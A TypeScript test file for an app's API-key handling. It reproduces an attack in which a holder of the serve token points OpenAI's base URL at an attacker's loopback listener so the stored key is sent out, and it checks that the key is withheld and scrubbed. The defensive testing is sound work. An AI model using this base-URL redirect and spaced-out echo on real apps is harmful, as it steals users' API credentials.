import { readdirSync, readFileSync } from 'node:fs'
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import WebSocket from 'ws'
import { dispatch } from '../../../shared/ipc/dispatch'
import { sessionProtocols } from '../../../shared/ipc/ws-session'
import type { ProviderConfig, SettingsView } from '../../../shared/types/settings'
import { createCore, type Core } from '../../../electron/core/core'
import { MemorySecretStore } from '../../../electron/core/secrets/secret-store'
import { createScrubber } from '../../../electron/core/secrets/scrub'
import { startServer, type RunningServer } from '../../../electron/host/serve'
import { startFakeOpenAI, type FakeOpenAI } from '../../fakes/fake-openai'
import { tempHome } from '../../support/temp-home'

// Issue 8, break 2: whoever holds the serve token pointed OpenAI's base URL at their own listener
// and called keys.test; the listener got the stored key as a Bearer header, and its reply, with
// the key spaced out, came back over the WebSocket and into the database.
const KEY = 'sk-proj-Qz8Wx7Vc6Bn5Ml4Kj3Hg2Fd1'

/** An attacker's server on loopback: records everything and echoes the Authorization header, spaced out. */
interface Listener {
  url: string
  seen: Array<{ url: string; headers: IncomingHttpHeaders; body: string }>
  close(): Promise<void>
}

async function startListener(): Promise<Listener> {
  const seen: Listener['seen'] = []
  const server: Server = createServer((req, res) => {
    let body = ''
    req.on('data', (c) => (body += c))
    req.on('end', () => {
      seen.push({ url: req.url ?? '', headers: req.headers, body })
      const spaced = String(req.headers.authorization ?? '').split('').join(' ')
      res.writeHead(401, { 'content-type': 'application/json' })
      res.end(JSON.stringify({ error: { message: `Incorrect API key provided: ${spaced}`, type: 'invalid_request_error', code: 'invalid_api_key' } }))
    })
  })
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r))
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`,
    seen,
    close: () => new Promise((r) => server.close(() => r()))
  }
}

/** A client of the socket with the token and no Origin, like a script; keeps every frame it receives. */
async function attacker(server: RunningServer) {
  const ws = new WebSocket(`ws://127.0.0.1:${server.port}/ws`, sessionProtocols(server.token))
  const frames: string[] = []
  const waiting = new Map<number, (value: { ok: boolean; value?: unknown; error?: { code: string; message: string } }) => void>()
  ws.on('message', (data) => {
    const text = data.toString()
    frames.push(text)
    const frame = JSON.parse(text) as { type: string; id: number; result: never }
    if (frame.type === 'response') waiting.get(frame.id)?.(frame.result)
  })
  await new Promise((resolve, reject) => ws.once('open', resolve).once('error', reject))
  let nextId = 1
  return {
    frames,
    request(channel: string, payload: unknown) {
      const id = nextId++
      return new Promise<{ ok: boolean; value?: unknown; error?: { code: string; message: string } }>((resolve) => {
        waiting.set(id, resolve)
        ws.send(JSON.stringify({ type: 'request', id, channel, payload }))
      })
    },
    close: () => ws.close()
  }
}

/** True when `text` holds the key, even spaced out or split by punctuation. */
function holdsKey(text: string): boolean {
  const squeeze = (s: string) => s.replace(/[^A-Za-z0-9]/g, '').toLowerCase()
  return squeeze(text).includes(squeeze(KEY).slice(2))
}

/** Every byte of the data directory (database, WAL, settings), as text. */
function dataDirText(dir: string): string {
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((e) => e.isFile())
    .map((e) => readFileSync(join(e.parentPath, e.name)).toString('latin1'))
    .join('\n')
}

const openaiAt = (baseUrl: string | null, view: SettingsView): ProviderConfig[] =>
  view.settings.providers.map((p) => (p.id === 'openai' ? { ...p, baseUrl } : p))

let fake: FakeOpenAI
let listener: Listener
const cleanups: Array<() => Promise<void> | void> = []

beforeAll(async () => {
  fake = await startFakeOpenAI({ apiKey: KEY })
  listener = await startListener()
})
afterAll(async () => {
  await fake?.close()
  await listener?.close()
})
afterEach(async () => {
  while (cleanups.length) await cleanups.pop()?.()
  listener.seen.length = 0
})

async function startHost(env: Record<string, string> = {}, options: Partial<Parameters<typeof createCore>[0]> = {}) {
  const home = tempHome()
  const dataDir = join(home.dir, 'data')
  const core: Core = createCore({ home: dataDir, env, secrets: new MemorySecretStore(), scrubber: createScrubber(), ...options })
  const server = await startServer({ core, rendererDir: home.dir })
  cleanups.push(() => home.remove(), () => core.close(), () => server.close())
  const call = async <T>(channel: string, payload: unknown): Promise<T> => {
    const result = await dispatch(core.handlers, channel as never, payload)
    if (!result.ok) throw new Error(`${channel}: ${result.error.message}`)
    return result.value as T
  }
  return { core, server, dataDir, call }
}

describe('a stored key and the server it was saved for, over the serve socket', () => {
  it('is not sent to a listener the base URL was pointed at; keys.test says why; nothing stores or echoes it', async () => {
    // The user's own setup: OpenAI through their server (the fake), key entered for it.
    const { server, dataDir, call } = await startHost()
    const view = await call<SettingsView>('settings.get', {})
    await call('settings.setProviders', { providers: openaiAt(fake.baseUrl, view) })
    await call('keys.set', { provider: 'openai', key: KEY })
    expect(await call('keys.test', { provider: 'openai' })).toMatchObject({ ok: true })

    // The attack, over the socket with the token.
    const socket = await attacker(server)
    cleanups.push(() => socket.close())
    const moved = await socket.request('settings.setProviders', { providers: openaiAt(listener.url, view) })
    expect(moved.ok).toBe(true)
    const test = await socket.request('keys.test', { provider: 'openai' })
    expect(listener.seen.map((r) => r.headers.authorization ?? null)).toEqual([])
    expect(test).toMatchObject({ ok: true, value: { ok: false } })
    const fakeHost = new URL(fake.baseUrl).host
    const listenerHost = new URL(listener.url).host
    expect((test.value as { message: string }).message).toBe(
      `The key for openai was saved for http://${fakeHost}; re-enter or confirm it for http://${listenerHost}.`
    )
    const held = await socket.request('settings.get', {})
    expect((held.value as SettingsView).providers.find((p) => p.id === 'openai')?.keyHold).toEqual({
      savedFor: `http://${fakeHost}`,
      sendsTo: `http://${listenerHost}`,
      source: 'keychain',
      confirmable: false
    })
    // Nor by a chat or a model list.
    const sent = await socket.request('chat.send', { content: 'hello', model: 'openai:gpt-4o-mini' })
    expect(sent.ok).toBe(true)
    await socket.request('models.list', { refresh: true })
    await new Promise((r) => setTimeout(r, 300))

    // The socket cannot confirm the new server for itself.
    const confirm = await socket.request('keys.confirmHost', { provider: 'openai' })
    expect(confirm).toMatchObject({ ok: false, error: { code: 'confirm_elsewhere' } })
    expect(confirm.error?.message).toContain('workbench keys set openai')
    expect((await socket.request('keys.test', { provider: 'openai' })).value).toMatchObject({ ok: false })

    for (const request of listener.seen) expect(holdsKey(JSON.stringify(request)), `request ${request.url}`).toBe(false)
    expect(socket.frames.length).toBeGreaterThan(0)
    for (const frame of socket.frames) expect(holdsKey(frame), frame).toBe(false)
    expect(holdsKey(dataDirText(dataDir))).toBe(false)

    // Pointing it back is enough: the key goes where it was saved for again.
    await socket.request('settings.setProviders', { providers: openaiAt(fake.baseUrl, view) })
    expect((await socket.request('keys.test', { provider: 'openai' })).value).toMatchObject({ ok: true })
  })

  it('goes to the new server once the key is entered again for it, and a spaced-out echo of it is scrubbed', async () => {
    const { server, dataDir, call } = await startHost()
    const view = await call<SettingsView>('settings.get', {})
    await call('settings.setProviders', { providers: openaiAt(listener.url, view) })
    // Entering the key while the provider points at a server is saying it belongs there.
    await call('keys.set', { provider: 'openai', key: KEY })
    const socket = await attacker(server)
    cleanups.push(() => socket.close())
    const test = await socket.request('keys.test', { provider: 'openai' })
    expect(listener.seen.at(-1)?.headers.authorization).toBe(`Bearer ${KEY}`)
    const message = (test.value as { message: string }).message
    expect(message).toContain('Incorrect API key provided')
    expect(holdsKey(message), message).toBe(false)
    await socket.request('chat.send', { content: 'hello', model: 'openai:gpt-4o-mini' })
    await new Promise((r) => setTimeout(r, 500))
    for (const frame of socket.frames) expect(holdsKey(frame), frame).toBe(false)
    expect(holdsKey(dataDirText(dataDir))).toBe(false)
  })

  it('lets a door that can ask its user outside the page confirm the new server, and only on yes', async () => {
    let answer = false
    const questions: unknown[] = []
    const { call } = await startHost({}, { confirmKeyHost: async (q) => (questions.push(q), answer) })
    const view = await call<SettingsView>('settings.get', {})
    await call('settings.setProviders', { providers: openaiAt(listener.url, view) })
    await call('keys.set', { provider: 'openai', key: KEY })
    await call('settings.setProviders', { providers: openaiAt(fake.baseUrl, view) })
    expect(await call('keys.test', { provider: 'openai' })).toMatchObject({ ok: false })

    await expect(call('keys.confirmHost', { provider: 'openai' })).rejects.toThrow(/Not confirmed/)
    expect(await call('keys.test', { provider: 'openai' })).toMatchObject({ ok: false })
    answer = true
    const after = await call<SettingsView>('keys.confirmHost', { provider: 'openai' })
    expect(after.providers.find((p) => p.id === 'openai')?.keyHold).toBeNull()
    expect(await call('keys.test', { provider: 'openai' })).toMatchObject({ ok: true })
    expect(questions.at(-1)).toEqual({
      provider: 'openai',
      savedFor: `http://${new URL(listener.url).host}`,
      sendsTo: `http://${new URL(fake.baseUrl).host}`
    })
  })

  it('keeps a key from the environment with the server the environment names', async () => {
    const { server } = await startHost({ OPENAI_API_KEY: KEY })
    const socket = await attacker(server)
    cleanups.push(() => socket.close())
    const view = (await socket.request('settings.get', {})).value as SettingsView
    await socket.request('settings.setProviders', { providers: openaiAt(listener.url, view) })
    const test = await socket.request('keys.test', { provider: 'openai' })
    expect((test.value as { message: string }).message).toBe(
      `The key for openai comes from OPENAI_API_KEY, which is sent only to api.openai.com or to OPENAI_BASE_URL; set OPENAI_BASE_URL to use it with http://${new URL(listener.url).host}.`
    )
    expect(listener.seen).toEqual([])
  })

  it('follows OPENAI_BASE_URL for a key from the environment, as before', async () => {
    const { call } = await startHost({ OPENAI_API_KEY: KEY, OPENAI_BASE_URL: fake.baseUrl })
    expect(await call('keys.test', { provider: 'openai' })).toMatchObject({ ok: true })
  })
})
